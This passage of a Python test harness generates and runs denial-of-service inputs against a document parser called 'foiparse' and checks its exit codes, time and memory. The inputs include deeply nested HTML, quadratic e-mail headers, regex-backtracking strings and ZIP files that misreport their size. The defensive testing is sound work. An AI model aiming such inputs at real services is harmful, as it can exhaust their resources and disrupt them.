    ),
    Kind("validate-dev-zero", _link_to_dev_zero, 1, "not a regular file", args=("validate", "{path}")),
    Kind("render-fifo.json", _fifo, 1, "not a regular file", args=("render", "{path}")),
    Kind(
        "validate-endless-stdin",
        _response_json(lambda obj: None),
        9,
        "over the limit of 1,000,000 bytes",
        args=("validate", "--max-bytes", "1000000", "-", "{path}"),  # the file is valid, standard input endless
        stdin=b"[" * 3_000_000,
    ),
    Kind(
        "validate-exit-code.json",
        _response_json(lambda obj: obj.__setitem__("outcome", "maybe")),
        14,
        "invalid: $.outcome",
        args=("validate", "{path}"),
    ),
    Kind(
        "validate-blank-lines.json",
        _write(b"\n" * 8_000_000),  # each blank line once added to a copy of all before it: hours
        13,
        "the file is empty",
        args=("validate", "{path}"),
    ),
    Kind(
        "date-label-then-blanks.txt",  # found by the e-mail fuzzer: each blank rescanned the run (a minute)
        _write(b"Dear Sir,\nDate of response: " + b" " * 120_000 + b"x\nWe hold 12 files.\n"),
        0,
        seconds=10,
    ),
    Kind("max-bytes-2GB.txt", _write(_letter()), 0, args=("--max-bytes", "2000000000")),
    Kind(
        "many-jobs",
        _letters,
        0,
        args=("ingest", "-q", "{path}/in", "--db", "{path}/foi.sqlite", "-j", "150"),
        prefix=("sh", "-c", 'ulimit -n 24 && exec "$@"', "sh"),  # room for a few workers, not 150
        after=_every_letter_ingested,
        seconds=60,
    ),
    Kind(
        "provision-with-80000-groups.txt",
        _write(b"Dear Sir,\n\nThe names are withheld under section 40" + b"(2)" * 80_000 + b" of the FOIA.\n"),
        0,
    ),
    Kind(
        "blank-paragraphs-4.8MB.txt",
        _write(b"Dear Sir,\n" + b"\n\n" * 2_400_000 + b"We hold 12 files about section 40(2) of the FOIA.\n"),
        0,
    ),
    Kind(
        "pdf-runs-at-5e7.pdf",
        _write(
            _pdf_with_runs(
                b"BT /F1 11 Tf -3000 755 Td (far left) Tj ET BT /F1 11 Tf 50000000 740 Td (far right) Tj ET "
                b"BT /F1 11 Tf -50000000 700 Td (far left) Tj ET BT /F1 11 Tf 72 -50000000 Td (far below) Tj ET"
            )
        ),
        0,
    ),
    Kind("docx-lying-zip-size.docx", _lying_docx, 9, "too large unpacked", seconds=20),
    Kind(
        "docx-entity-in-run",
        _entity_docx,
        0,
        args=("{path}/letter.docx", "-o", "{path}/letter.json"),
        after=_entity_text_kept,
    ),
    Kind(
        "macro-enabled.docm",
        _write(
            _word(
                _para("Dear Sir,") + _para("We hold 12 files."),
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        ),
        0,
    ),
    Kind("unclosed-formatting-tags.html", _write(_unclosed_formatting(2000, 4000)), 9, "too many HTML elements"),
    Kind("unclosed-formatting-tags-56KB.html", _write(_unclosed_formatting(3000, 6000)), 9, "too many HTML elements"),
    Kind(
        "tables-nested-9000.html",
        _write(b"<table><tr><td>x</td><td>" * 9000 + b"Deep" + b"</td></tr></table>" * 9000),
        9,
        "nested too deep",
    ),
    Kind(
        "meta-charset-punycode.html",
        _write(b"<meta charset=punycode><p>Dear Sir, we hold 12 files.</p><p>-" + b"abcdefghij" * 80_000 + b"</p>"),
        0,
    ),
    Kind(
        "punycode-email.eml",
        _write(
            _mail(
                b"Subject: =?punycode?q?x-"
                + b"abcdefghij" * 20_000
                + b"?=\r\nContent-Type: text/plain; charset=punycode",
                b"Dear Sir, we hold 12 files.\r\n-" + b"abcdefghij" * 80_000,
            )
        ),
        0,
    ),
    Kind("30000-same-name-attachments.eml", _write(_same_name_attachments(30_000)), 9, "too many MIME parts"),
    Kind(
        "utf16-no-bom-odd-byte",
        _in_folder("letter.txt", _letter().decode("utf-8").encode("utf-16-le") + b"\n"),
        0,
        args=("{path}/letter.txt", "-o", "{path}/letter.json"),
        after=_reads_as("letter.txt", "Freedom of Information"),
    ),
    Kind(
        "text-quoting-pdf-magic.txt",
        _write(b'Dear Sir,\n\nThe file you sent begins "%PDF-1.4" and will not open.\n\n' + _letter()),
        0,
    ),
    Kind(
        "meta-charset-utf16",
        _in_folder("page.html", b"<html><head><meta charset=utf16></head><body><p>Dear Sir, we hold 12 files.</p>"),
        0,
        args=("{path}/page.html", "-o", "{path}/page.json"),
        after=_reads_as("page.html", "Dear Sir, we hold 12 files."),
    ),
    Kind(
        "script-with-comparisons.html",
        _write(
            b"<html><head><script>" + b"if (a<b && c<d) { n = n<i ? 1 : 0 }\n" * 15_000 + b"</script></head>"
            b"<body><p>Dear Sir, we hold 12 files.</p></body></html>"
        ),
        0,
    ),
    # Header values Python's mail parser reads in the square of their length: cut before it parses them.
    Kind("long-dotted-to-header.eml", _write(_long_header(b"To", b" . " * 40_000)), 0, seconds=5),
    Kind(
        "long-content-type-comments.eml",
        _write(_long_header(b"Content-Type", b"text/plain; charset=utf-8; " + b"section 40(2)" * 40_000)),
        0,
        seconds=5,
    ),
    Kind("many-encoded-words-in-to.eml", _write(_long_header(b"To", b"=?utf-8?Q?abc?=" * 40_000)), 0, seconds=5),
    Kind(
        "many-long-part-headers.eml",
        _write(_long_part_headers(200, 4000)),
        9,
        "too much e-mail header text",
        seconds=5,
    ),
    # Adjacent unbounded repeats over the same characters backtrack through every split of a run.
    Kind(
        "pdf-header-then-digits.txt", _write(b"Dear Ms Okoro,\nThe file header was %PDF-" + b"7" * 65_000), 0, seconds=5
    ),
    Kind("many-leading-html-comments.txt", _write(b"<!---->" * 290 + b"\nDear Sir, we hold 12 files.\n"), 0, seconds=5),
    # Declared boundaries were each counted by a scan of the whole message.
    Kind(
        "many-boundaries-in-a-long-body.eml",
        _write(
            b"From: a@example.org\r\nTo: b@example.org\r\nSubject: FOI reply\r\nContent-Type: text/plain\r\n\r\n"
            + b"".join(b"boundary=b%04d\r\n" % i for i in range(999))
            + b"We hold 12 files.\r\n" * 550_000
        ),
        9,
        "too much text",
        seconds=5,
    ),
    # Odd-length big-endian UTF-16 that starts outside Latin: read big-endian, not as garbled little-endian.
    Kind(
        "utf16be-euro-odd-length",
        _in_folder("letter.txt", "\u20acDear Sir, we hold 12 files.\n".encode("utf-16-be") + b"\n"),
        0,
        args=("{path}/letter.txt", "-o", "{path}/letter.json"),
        after=_reads_as("letter.txt", "\u20acDear Sir, we hold 12 files."),
    ),
    # A page declared 5e7 points wide, a word drawn 4e7 points along each line: kept, with bounded padding.
    Kind(
        "pdf-page-5e7-wide.pdf",
        _write(
            one_page_pdf(
                b"".join(
                    b"BT /F1 11 Tf 72 %d Td (Line %d of the reply) Tj 40000000 0 Td (x) Tj ET " % (770 - 12 * i, i)
                    for i in range(60)
                ),
                media_box=b"[0 0 50000000 842]",
            )
        ),
        0,
        seconds=10,
    ),
    Kind("docx-one-part-2000-entries.docx", _docx_one_part_many_entries, 8, "overlap", seconds=10),
    Kind(
        "docx-10001-parts.docx",
        _docx_many_parts,
        9,
        "too many ZIP members",
        seconds=10,
    ),
    # Markup behind a comment ended by "--!>", a "<!--" in a quoted attribute, a <font> that stays in SVG:
    # counted as the parser reads it, not hidden from the element limit (once 1 GB and "internal error").
    Kind("html-comment-ended-by-bang.html", _write(_behind(b"<!-- note --!>")), 9, "too many HTML elements", seconds=5),
    Kind(
        "html-comment-in-attribute.html", _write(_behind(b'<p title="<!--">')), 9, "too many HTML elements", seconds=5
    ),
    Kind("html-svg-font-xmp.html", _write(_behind(b"<svg><font><xmp><p>")), 9, "too many HTML elements", seconds=5),
    # <p> inside <foreignObject> opens inside it: 90,000 levels deep in lexbor, over the depth limit.
    Kind(
        "html-foreignobject-30000.html", _write(b"<svg><foreignObject><p>x" * 30_000), 9, "nested too deep", seconds=5
    ),
    # Buttons, forms, headings and selects the tree builder closes or ignores: lexbor builds them flat
    # (once refused as nested too deep).
    Kind(
        "html-flat-buttons-forms-headings-selects.html",
        _write(
            b"<html><body><p>Dear Sir, we hold 12 files.</p>"
            + b"<button>b" * 12_000
            + b"<form>d" * 12_000
            + b"<h1>a<h2>b" * 6_000
            + b"<select>" * 12_001
            + b"</body></html>"
        ),
        0,
        seconds=10,
    ),
    # <rt> and <optgroup> outside <ruby> and <select> nest, 30,000 deep in lexbor (once counted flat).
    Kind(
        "html-rt-optgroup-30000.html",
        _write(b"<html><body><p>Dear Sir,</p>" + b"<rt><optgroup>x" * 15_000),
        9,
        "nested too deep",
    ),
    # A part labelled UTF-16 whose bytes are ASCII: read as the ASCII it is, with a warning (once CJK).
    Kind(
        "eml-utf16-label-ascii-body",
        _in_folder(
            "reply.eml",
            _mail(b"Subject: re\r\nContent-Type: text/plain; charset=utf-16", b"Dear Sir, we hold 12 files.\r\n"),
        ),
        0,
        args=("{path}/reply.eml", "-o", "{path}/reply.json"),
        after=_reads_with_warning("reply.eml", "Dear Sir, we hold 12 files.", "charset_mislabelled"),
    ),
    # A letter whose first line begins "%PDF-1.4": text, not a corrupt PDF.
    Kind(
        "text-beginning-with-pdf-header.txt",
        _write(b"%PDF-1.4 was the header of the file you sent; it did not open.\n\nDear Sir, we hold 12 files.\n"),
        0,
    ),
    # Found by the second outside-style audit (issue 13): each once a traceback, data lost or a machine's memory.
    Kind(
        "stdout-closed.txt",
        _write(_letter()),
        1,
        "standard output is closed",
        prefix=("sh", "-c", 'exec "$@" >&-', "sh"),
    ),
    Kind(
        "stdin-is-the-output.txt",
        _stdin_letter,
        2,
        "the output is also an input (standard input)",
        args=("-", "-o", "{path}"),
        prefix=("sh", "-c", 'for f; do :; done; exec "$@" < "$f"', "sh"),  # the path, last, on standard input
        after=_stdin_letter_kept,
    ),
    Kind(
        "stdin-endless-under-a-terabyte-max-bytes",
        _write(b""),
        9,
        "ran out of memory while parsing (the cap is 200 MB)",
        args=("-", "--max-bytes", str(2**40), "--max-memory", "200", "-o", "{path}"),
        prefix=("sh", "-c", 'yes "We hold 12 files." | "$@"', "sh"),
        seconds=30,
    ),
    Kind(
        "open-file-limit-6",
        _letters,
        1,
        "Too many open files",
        args=("ingest", "-q", "{path}/in", "--db", "{path}/foi.sqlite", "-j", "2"),
        prefix=("sh", "-c", 'ulimit -n 6 && exec "$@"', "sh"),
    ),
    Kind(
        "foreign-sqlite-view-only",
        _foreign_view_db,
        1,
        "not a foiparse database",
        args=_ingest_args("theirs.sqlite"),
        after=_left_alone,
    ),
    Kind(
        "citation-list-of-250000.txt",
        _write(b"Dear Sir,\n\nWithheld under sections " + b"40, " * 250_000 + b"and 43 of the FOIA.\n"),
        0,
        seconds=40,
    ),
]


def generate(folder: Path) -> list[Path]:
    """Write every kind into ``folder`` (created); return their paths in order."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for kind in KINDS:
        path = folder / kind.name
        kind.make(path)
        paths.append(path)
    return paths


@dataclass(frozen=True)
class Outcome:
    """What one run of ``foiparse`` on a hostile input did."""

    kind: Kind
    exit_code: int
    stderr: str
    seconds: float
    peak_mb: float
    problem: str | None = None  # what the kind's own check after the run found wrong

    @property
    def ok(self) -> bool:
        """The expected exit code and message, in time, under 1 GB, and nothing but one line on stderr."""
        lines = self.stderr.splitlines()
        one_line = (not lines) if self.kind.exit_code == 0 else len(lines) == 1
        return (
            self.exit_code == self.kind.exit_code
            and self.kind.message in self.stderr
            and one_line
            and "Traceback" not in self.stderr
            and self.seconds <= self.kind.seconds
            and self.peak_mb < 1024
            and self.problem is None
        )


_MEASURE = """
import resource, subprocess, sys, time
started = time.monotonic()
done = subprocess.run(
    sys.argv[1:], stdin=sys.stdin, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=300
)
seconds = time.monotonic() - started
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
sys.stdout.write(f"{done.returncode} {seconds:.3f} {peak:.1f}\\n")
sys.stdout.write(done.stderr.decode("utf-8", "replace"))
"""


def run(kind: Kind, path: Path, foiparse: list[str]) -> Outcome:
    """Run ``foiparse`` on one input in a fresh process tree, measuring time and peak memory."""
    prefix: list[str] = list(kind.prefix)
    if kind.unprivileged and os.geteuid() == 0:  # root reads any file: drop that power for this run
        prefix += ["setpriv", "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search"]
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, *prefix, *foiparse, *kind.command(path)],
        input=kind.stdin,
        capture_output=True,
        check=True,
    )
    head, _, stderr = done.stdout.decode("utf-8", "replace").partition("\n")
    code, seconds, peak = head.split()
    problem = kind.after(path) if kind.after is not None else None
    return Outcome(kind, int(code), stderr, float(seconds), float(peak), problem)


def check(folder: Path, foiparse: list[str] | None = None) -> list[Outcome]:
    """Run every kind; print a table; return the outcomes."""
    command = foiparse or [sys.executable, "-m", "foiparse"]
    outcomes = []
    print(f"{'kind':34} {'exit':>4} {'want':>4} {'s':>6} {'MB':>6}  ok  stderr")
    for kind in KINDS:
        outcome = run(kind, folder / kind.name, command)
        outcomes.append(outcome)
        print(
            f"{kind.name:34} {outcome.exit_code:4} {kind.exit_code:4} {outcome.seconds:6.2f} {outcome.peak_mb:6.0f}"
            f"  {'yes' if outcome.ok else 'NO '} {(outcome.problem or outcome.stderr).strip()[:90]}"
        )
    return outcomes


def main(argv: list[str] | None = None) -> int:
    """Write the corpus; with --check, run it and exit 1 unless every kind got its answer."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path, help="where to write the inputs")
    parser.add_argument("--check", action="store_true", help="run foiparse on each and report")
    args = parser.parse_args(argv)
    started = time.monotonic()
    generate(args.folder)
    print(f"{len(KINDS)} kinds written to {args.folder} in {time.monotonic() - started:.1f} s")
    if not args.check:
        return 0
    outcomes = check(args.folder)
    bad = [o.kind.name for o in outcomes if not o.ok]
    print(f"{len(outcomes) - len(bad)} of {len(outcomes)} as documented" + (f"; not: {', '.join(bad)}" if bad else ""))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
